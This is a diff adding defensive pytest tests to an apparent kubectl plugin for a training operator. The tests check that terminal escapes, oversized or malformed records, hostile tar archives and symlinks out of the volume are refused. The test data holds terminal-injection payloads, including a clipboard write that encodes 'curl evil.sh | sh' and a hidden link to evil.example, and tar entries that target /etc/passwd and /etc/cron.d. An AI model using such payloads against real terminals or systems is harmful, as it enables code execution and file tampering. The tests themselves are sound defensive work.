@@ -4,13 +4,25 @@ tests/integration/test_kubectl_plugin.py."""
 
 from __future__ import annotations
 
+import argparse
+import io
+import json
+import os
+import re
+import tarfile
+import time
 import tomllib
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
+import yaml
+from grpo_operator.api.status import NO_CONTROL_PATTERN, ProgressStatus
 from grpo_operator.kubectl_plugin import cli, data, render
-from grpo_operator.kubectl_plugin.volume import HostPathTransport, reader_pod, running_trainer
+from grpo_operator.kubectl_plugin.errors import BadData, PluginError
+from grpo_operator.kubectl_plugin.volume import HostPathTransport, extract_tar, reader_pod, running_trainer
+from pydantic import ValidationError
 
 REPO = Path(__file__).resolve().parents[2]
 
@@ -231,3 +243,282 @@ def test_status_text_draws_the_trends_from_the_per_step_record() -> None:
     assert "Format failures 0.0%  █▅▁▁  (first 50.0%, min 0.0%, max 50.0%)" in lines
     # Validation runs every few steps: its points side by side, without the gaps between them.
     assert "Validation      0.4000  ▁█  (first 0.2000, min 0.2000, max 0.4000)" in lines
+
+
+# -- what the tenant's trainer image writes is untrusted ----------------------------------------------
+
+ATTACKS = {
+    "clear screen": "\x1b[2J",
+    "window title (OSC 0)": "\x1b]0;owned\x07",
+    "clipboard write (OSC 52)": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
+    "hidden link (OSC 8)": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
+    "CSI as the C1 byte 0x9b": "\x9b2J",
+    "bell": "\x07",
+    "delete": "\x7f",
+    "carriage return over the line": "ok\rEVIL",
+}
+
+
+def acted_on(text: str) -> set[str]:
+    """The characters in ``text`` a terminal would act on rather than print."""
+    return {c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F}
+
+
+def hostile_volume(root: Path, lines: list[str]) -> HostPathTransport:
+    (root / "output").mkdir(parents=True, exist_ok=True)
+    (root / "output" / "samples.jsonl").write_text("".join(line + "\n" for line in lines))
+    return HostPathTransport(root)
+
+
+def samples_args(output: str | None = None, **kw: Any) -> argparse.Namespace:
+    defaults = {
+        "output": output,
+        "follow": False,
+        "step": None,
+        "order": None,
+        "limit": None,
+        "split": "train",
+    }
+    return argparse.Namespace(**{**defaults, **kw})
+
+
+HOSTILE_JOB = {
+    "metadata": {"name": "j", "namespace": "ns", "uid": "u"},
+    "status": {"phase": "Running", "progress": {"display": "\x1b]0;title\x07"}},
+}
+
+
+@pytest.mark.parametrize("output", [None, "json", "yaml"])
+def test_samples_escape_terminal_controls_in_every_format(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], output: str | None
+) -> None:
+    payload = "".join(ATTACKS.values())
+    record = {"step": 1, "split": "train", "prompt": payload, "completion": payload, "reward": 1.0}
+    volume = hostile_volume(tmp_path, [json.dumps(record, ensure_ascii=False)])
+    assert cli.print_samples(volume, HOSTILE_JOB, samples_args(output), lambda: True) == 0
+    shown = capsys.readouterr().out
+    assert acted_on(shown) == set(), f"{output}: raw controls {acted_on(shown)}"
+    if output != "yaml":  # YAML writes its own escapes (\\e, \\x9B) in a double-quoted string
+        assert "\\u001b]52;c;" in shown and "\\u009b2J" in shown and "\\u007f" in shown
+    # The escape is the JSON and YAML one too: the data reads back unchanged.
+    if output == "json":
+        assert json.loads(shown)[0]["completion"] == payload
+    if output == "yaml":
+        assert yaml.safe_load(shown)[0]["completion"] == payload
+
+
+def test_follow_json_and_status_text_and_errors_escape_controls(capsys: pytest.CaptureFixture[str]) -> None:
+    cli.show([{"completion": "\x9b2J\x1b[2J"}], samples_args("json", follow=True), follow=True)
+    line = capsys.readouterr().out
+    assert acted_on(line) == set() and json.loads(line)["completion"] == "\x9b2J\x1b[2J"
+    report = {"name": "j", "namespace": "ns", "status": HOSTILE_JOB["status"], "trendUnavailable": "\x1b[2J"}
+    cli.out(render.status_text(report))
+    # status.progress.display reaches error messages too (where()).
+    cli.report(PluginError(cli.where(HOSTILE_JOB)))
+    seen = capsys.readouterr()
+    assert acted_on(seen.out + seen.err) == set()
+    assert "Step            \\u001b]0;title\\u0007" in seen.out and "\\u001b]0;title" in seen.err
+
+
+def test_terminal_safe_leaves_text_newlines_and_tabs() -> None:
+    text = "Première ligne\n\tdeux — 2+2=4 ✓"
+    assert render.terminal_safe(text) == text
+    for name, attack in ATTACKS.items():
+        assert acted_on(render.terminal_safe(attack)) == set(), name
+
+
+# -- status.progress.display: the API server refuses control characters ------------------------------
+
+
+def test_progress_display_refuses_control_characters_in_the_model_and_the_crd() -> None:
+    assert ProgressStatus(display="12/500").display == "12/500"
+    for attack in ATTACKS.values():
+        with pytest.raises(ValidationError, match="display"):
+            ProgressStatus(display=attack)
+    crd = yaml.safe_load((REPO / "crds" / "grpo.dev_grpojobs.yaml").read_text())
+    schema = crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
+    display = schema["properties"]["status"]["properties"]["progress"]["properties"]["display"]
+    assert display["pattern"] == NO_CONTROL_PATTERN and display["maxLength"] == 64
+    # The pattern text uses only \xHH escapes and a negated class, which RE2 reads as Python does.
+    assert re.fullmatch(display["pattern"], "7/10") and not re.search(display["pattern"], "7\x9b/10")
+
+
+# -- bounded reads --------------------------------------------------------------------------------
+
+
+def test_a_200_mb_samples_line_is_skipped_in_seconds_with_a_notice(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (tmp_path / "output").mkdir()
+    good = json.dumps({"step": 2, "split": "train", "prompt": "p", "completion": "fine", "reward": 0.5})
+    big = 200 * 1000 * 1000
+    mid = json.dumps({"step": 2, "split": "train", "prompt": "p", "completion": "also", "reward": 0.1})
+    with (tmp_path / "output" / "samples.jsonl").open("wb") as handle:
+        handle.write(b'{"step": 2, "split": "train", "prompt": "p", "completion": "')
+        handle.seek(big)  # sparse: the file reads as 200 MB of NUL bytes without writing them
+        handle.write(b'"}\n' + mid.encode() + b"\n" + b'{"completion": "' + b"a" * (30 << 20) + b'"}\n')
+        handle.write(good.encode() + b"\n")
+    started = time.monotonic()
+    assert cli.print_samples(HostPathTransport(tmp_path), JOB, samples_args(), lambda: True) == 0
+    elapsed = time.monotonic() - started
+    seen = capsys.readouterr()
+    assert elapsed < 10, elapsed
+    assert "only its newest 67.1 MB are read" in seen.err
+    assert "skipped a line of /workspace/output/samples.jsonl of 31.5 MB" in seen.err
+    assert "… [truncated 31457298 bytes]" in seen.err
+    assert "│ fine" in seen.out
+
+
+def test_a_long_completion_is_wrapped_in_linear_time_and_cut_with_a_notice() -> None:
+    completion = "x" * 900_000  # one "word": textwrap slices it again for every line it emits
+    started = time.monotonic()
+    text = render.samples_text([{**sample(1, "p", 1.0), "completion": completion}])
+    assert time.monotonic() - started < 2
+    lines = text.splitlines()
+    assert all(len(line) <= 100 for line in lines[:-1])
+    assert lines[-1].endswith(f"… [truncated {900_000 - render.TEXT_LIMIT} bytes]")
+
+
+def test_the_scanner_keeps_a_line_split_across_chunks_and_drops_only_over_long_ones() -> None:
+    scanner = data.JsonlScanner("f", line_limit=32)
+    got = scanner.feed(b'{"step": 1}\n{"st') + scanner.feed(b'ep": 2}\n{"x": "' + b"y" * 64)
+    got += scanner.feed(b'"}\n{"step": 3}') + scanner.finish()
+    assert got == [{"step": 1}, {"step": 2}, {"step": 3}]
+    assert scanner.summary() == [
+        "skipped a line of f of 73 bytes, more than the 32 bytes a record may have (… [truncated 73 bytes])"
+    ]
+
+
+# -- never a traceback ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("manifest", [b"{not json", b"[1, 2]", b'{"step": "ten"}', b"\xff\xfe" + b"9" * 5000])
+def test_a_malformed_manifest_is_bad_data_with_exit_5(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], manifest: bytes
+) -> None:
+    (tmp_path / "checkpoints" / "step-3").mkdir(parents=True)
+    (tmp_path / "checkpoints" / "latest.json").write_bytes(manifest)
+    with pytest.raises(BadData) as caught:
+        cli.checkpoint_listing(HostPathTransport(tmp_path))
+    assert cli.report(caught.value) == 5
+    err = capsys.readouterr().err
+    assert err.startswith("kubectl grpo: bad data: /workspace/checkpoints/latest.json is not")
+    assert err.count("\n") == 1 and "kubectl grpo logs" in err
+
+
+def test_malformed_metrics_and_samples_are_skipped_not_a_traceback(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    hostile_volume(
+        tmp_path,
+        [
+            '{"step": "abc", "split": "train", "reward": 1}',
+            '{"step": [1], "split": "train"}',
+            '{"step": 4, "split": "train", "prompt": {"a": 1}, "reward": 1e999, "advantage": "x"}',
+            '{"step": 4, "split": "train", "prompt": "q", "reward": 123456789' + "0" * 400 + "}",
+            "[" * 100_000,
+            "not json",
+        ],
+    )
+    assert cli.print_samples(HostPathTransport(tmp_path), JOB, samples_args(), lambda: True) == 0
+    seen = capsys.readouterr()
+    assert "reward - (not scored)" in seen.out and "── step 4 · train ──" in seen.out
+    assert "skipped 2 line(s) of /workspace/output/samples.jsonl that are not JSON objects" in seen.err
+    rows: list[dict[str, Any]] = [
+        {"step": "x", "reward_mean": "y"},
+        {"step": 2, "reward_mean": 10**400, "reward_std": float("nan")},
+    ]
+    assert render.rewards_text(rows).splitlines()[1:3] == [
+        "-      -        -     -             -",
+        "2      -        -     -             -",
+    ]
+
+
+def write_tar(path: Path, build: Callable[[tarfile.TarFile], None]) -> Path:
+    with tarfile.open(path, "w") as archive:
+        build(archive)
+    return path
+
+
+def add(archive: tarfile.TarFile, name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> None:
+    info = tarfile.TarInfo(name)
+    info.type = kind
+    info.linkname = link
+    archive.addfile(info, io.BytesIO(b"") if kind == tarfile.REGTYPE else None)
+
+
+@pytest.mark.parametrize(
+    ("members", "why"),
+    [
+        ([("../escape", tarfile.REGTYPE, "")], "has a path that leaves the directory"),
+        ([("/etc/cron.d/x", tarfile.REGTYPE, "")], "has a path that leaves the directory"),
+        ([("passwd", tarfile.SYMTYPE, "/etc/passwd")], "is a symbolic link to '/etc/passwd'"),
+        ([("up", tarfile.SYMTYPE, "sub/../..")], "is a symbolic link to 'sub/../..'"),
+        ([("dir", tarfile.SYMTYPE, "d"), ("dir/file", tarfile.REGTYPE, "")], "lies under a symbolic link"),
+        ([("hard", tarfile.LNKTYPE, "config.json")], "is a hard link to 'config.json'"),
+        ([("fifo", tarfile.FIFOTYPE, "")], "is a device, pipe or other special file"),
+    ],
+)
+def test_a_hostile_tar_is_refused_member_by_member(
+    tmp_path: Path, members: list[tuple[str, bytes, str]], why: str
+) -> None:
+    def build(archive: tarfile.TarFile) -> None:
+        for member in members:
+            add(archive, *member)
+
+    tar = write_tar(tmp_path / "t.tar", build)
+    dest = tmp_path / "dest"
+    dest.mkdir()
+    with tar.open("rb") as stream, pytest.raises(BadData, match=re.escape(why)) as caught:
+        extract_tar(stream, dest, "/workspace/output/model")
+    assert caught.value.exit_code == 5
+    assert not (tmp_path / "escape").exists() and not (tmp_path / "etc").exists()
+
+
+def test_non_tar_data_is_bad_data_and_a_clean_tar_extracts(tmp_path: Path) -> None:
+    with pytest.raises(BadData, match="not a readable tar archive"):
+        extract_tar(io.BytesIO(b"\x1b]0;not a tar\x07" * 100), tmp_path, "/workspace/output/model")
+
+    def clean(archive: tarfile.TarFile) -> None:
+        add(archive, "sub", tarfile.DIRTYPE)
+        add(archive, "sub/config.json")
+        add(archive, "alias.json", tarfile.SYMTYPE, "sub/config.json")
+
+    tar = write_tar(tmp_path / "ok.tar", clean)
+    dest = tmp_path / "dest"
+    dest.mkdir()
+    with tar.open("rb") as stream:
+        extract_tar(stream, dest, "/workspace/output/model")
+    assert (dest / "sub" / "config.json").is_file() and os.readlink(dest / "alias.json") == "sub/config.json"
+
+
+# -- no transport follows a link out of the volume -----------------------------------------------------
+
+
+def test_host_path_transport_refuses_links_out_of_the_volume(tmp_path: Path) -> None:
+    secret = tmp_path / "secret.txt"
+    secret.write_text("the user's own file")
+    root = tmp_path / "volume"
+    (root / "output" / "model").mkdir(parents=True)
+    (root / "output" / "metrics.jsonl").symlink_to(secret)
+    (root / "checkpoints").symlink_to("/etc")
+    (root / "output" / "model" / "passwd").symlink_to("/etc/passwd")
+    volume = HostPathTransport(root)
+    with pytest.raises(BadData, match="outside the volume"):
+        volume.size("/workspace/output/metrics.jsonl")
+    with pytest.raises(BadData, match="outside the volume"):
+        volume.list_dir("/workspace/checkpoints")
+    dest = tmp_path / "export"
+    with pytest.raises(BadData, match="'passwd' is a symbolic link to '/etc/passwd'"):
+        volume.copy_out("/workspace/output/model", dest)
+    assert not (dest / "passwd").exists() or (dest / "passwd").is_symlink()  # never its contents
+
+
+def test_host_path_transport_does_not_hang_on_a_named_pipe(tmp_path: Path) -> None:
+    (tmp_path / "output").mkdir()
+    os.mkfifo(tmp_path / "output" / "samples.jsonl")
+    assert HostPathTransport(tmp_path).read("/workspace/output/samples.jsonl") is None
+    (tmp_path / "output" / "model").mkdir()
+    os.mkfifo(tmp_path / "output" / "model" / "weights.bin")
+    with pytest.raises(BadData, match="special file"):
+        HostPathTransport(tmp_path).copy_out("/workspace/output/model", tmp_path / "out")
